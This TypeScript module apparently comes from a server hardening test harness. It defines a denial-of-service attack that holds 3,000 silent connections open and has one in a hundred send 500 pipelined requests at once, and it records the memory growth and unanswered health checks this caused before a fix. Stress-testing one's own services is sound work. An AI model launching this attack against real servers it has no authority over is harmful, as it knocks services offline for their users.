// Connections that say nothing, and some that ask for five hundred pages in one breath and read none.
import type { Attack, Target } from "./attack";
import { openLines } from "./lines";

const lines = 3_000;
const breaths = 500;

export const connections: Attack = {
  name: "connections",
  what: `${lines} connections from one address; one in a hundred asks for ${breaths} pages at once`,
  before: "memory + 296 MB a minute after, health never answered, none of 3,000 connections ended",
  async begin(target: Target) {
    const page = `GET / HTTP/1.1\r\nHost: ${new URL(target.url).host}\r\n\r\n`;
    const open = openLines(target, {
      count: lines,
      everyMs: 2_000,
      harm: (socket, index) => void (index % 100 === 0 && socket.write(page.repeat(breaths))),
    });
    return { stop: async () => open.stop() };
  },
};
